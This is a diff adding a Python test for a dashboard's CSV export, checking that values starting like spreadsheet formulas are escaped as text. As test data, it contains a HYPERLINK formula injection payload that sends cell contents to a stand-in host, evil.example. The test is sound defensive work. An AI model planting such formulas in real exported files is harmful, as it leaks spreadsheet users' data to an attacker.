@@ -114,6 +114,17 @@ def test_csv_export(owner_client, small):
     assert rows[0]["provider_prompt_tokens"] == ""
 
 
+def test_csv_export_never_writes_a_formula(owner_client, small):
+    """Issue 11, finding 9: a model name or reason that starts like a formula stays text."""
+    small.records[0].__class__.objects.filter(pk=small.records[0].pk).update(
+        model='=HYPERLINK("https://evil.example/?x="&A1,"click")', reason="+1 then -2 @here")
+    response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.csv")
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[0]["model"] == """'=HYPERLINK("https://evil.example/?x="&A1,"click")"""
+    assert rows[0]["reason"] == "'+1 then -2 @here"
+    assert int(rows[1]["tokens_saved"]) >= 0  # numbers stay numbers
+
+
 def test_json_export(owner_client, small):
     response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.json")
     assert response["Content-Type"] == "application/json"
